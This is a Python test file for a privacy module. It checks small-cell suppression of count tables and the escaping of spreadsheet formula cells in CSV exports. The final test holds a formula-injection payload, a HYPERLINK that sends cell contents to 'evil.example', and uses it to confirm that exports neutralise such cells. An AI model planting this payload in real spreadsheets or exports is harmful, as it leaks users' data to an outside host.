from pni.privacy.cells import (
    hide_count,
    hide_counts,
    hide_table,
    merge_small,
    shown_count,
    small_cell_note,
)


def test_small_groups_merge_into_other_or_vanish() -> None:
    assert merge_small({"a": 9, "b": 2, "c": 3}, 5) == {"a": 9, "other": 5}
    assert merge_small({"a": 9, "b": 2}, 5) == {"a": 9}
    assert merge_small({"a": 9, "b": 2}, 2) == {"a": 9, "b": 2}


def test_teller_counts_decide_not_story_counts() -> None:
    # 12 stories from 3 tellers is still a group of 3 tellers
    assert merge_small({"a": 40, "b": 12}, 5, tellers={"a": 20, "b": 3}) == {"a": 40}
    assert "5 tellers" in small_cell_note(5)


def test_a_lone_hidden_cell_takes_a_second_with_it() -> None:
    # row total 20 shown: 3 alone hidden would be 20 - 9 - 8 = 3 again
    assert hide_counts({"a": 9, "b": 3, "c": 8}, {"a": 9, "b": 3, "c": 8}, 5) == {
        "a": 9, "b": None, "c": None}
    # the second is taken in the column too, and zeros are taken only when nothing else is left
    mask = hide_table([[10, 2, 0], [12, 9, 6], [7, 8, 5]], [[10, 2, 0], [12, 9, 6], [7, 8, 5]], 5)
    assert mask[0][1] and sum(mask[0]) >= 2
    assert all(sum(r) != 1 for r in mask) and all(sum(c) != 1 for c in zip(*mask, strict=True))
    assert hide_counts({"a": 3, "b": 0}, {"a": 3, "b": 0}, 5) == {"a": None, "b": None}


def test_a_group_too_small_to_break_down_hides_its_whole_row() -> None:
    mask = hide_table([[6, 0], [30, 40], [20, 25]], [[2, 0], [20, 30], [10, 12]], 5,
                      hide_rows=[True, False, False])
    assert mask[0] == [True, True]
    assert all(sum(c) >= 2 for c in zip(*mask, strict=True))


def test_min_cell_one_hides_nothing_and_counts_read_as_numbers() -> None:
    assert hide_table([[1, 2]], [[1, 2]], 1) == [[False, False]]
    assert hide_counts({"a": 1}, {"a": 1}, 1) == {"a": 1}
    assert (shown_count(None, 5), shown_count(0, 5), shown_count(7, 10)) == ("<5", "0", "7")


def test_a_lone_count_of_few_tellers_is_hidden_by_teller_count() -> None:
    # 12 out-of-range answers from 2 tellers: a group of 2; an empty group hides nothing
    assert (hide_count(12, 2, 5), hide_count(0, 0, 5), hide_count(5, 5, 5)) == (None, 0, 5)
    assert hide_count(12, 2, 1) == 12


def test_formula_cells_are_neutralised_in_exports() -> None:
    import io

    from pni.cli.output import csv_cell
    from pni.ingest.export import write_stories
    from pni.models import Story
    from pni.privacy.spreadsheet import safe_cell

    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
    for v in (evil, "+1+1", "-2+3", "@SUM(A1)", "\t=1"):
        assert safe_cell(v).startswith("'")
        assert csv_cell(v).startswith("'") and csv_cell([v, "b"]).startswith("'")
    assert csv_cell(-3) == "-3" and safe_cell(-3) == -3 and safe_cell("a=b") == "a=b"
    out = io.StringIO()
    s = Story.model_construct(id="S-1", text=evil, title="@t", prompt=None, source_kind="other",
                              source_id=None, collection="c", teller_id=None, date=None,
                              language=None, consent="yes", content_hash="h", provenance=None,
                              answers={"q": "-x"}, teller_answers={})
    write_stories([s], "csv", out)
    text = out.getvalue()
    assert "'=HYPERLINK" in text and ",'@t," in text and "'-x" in text
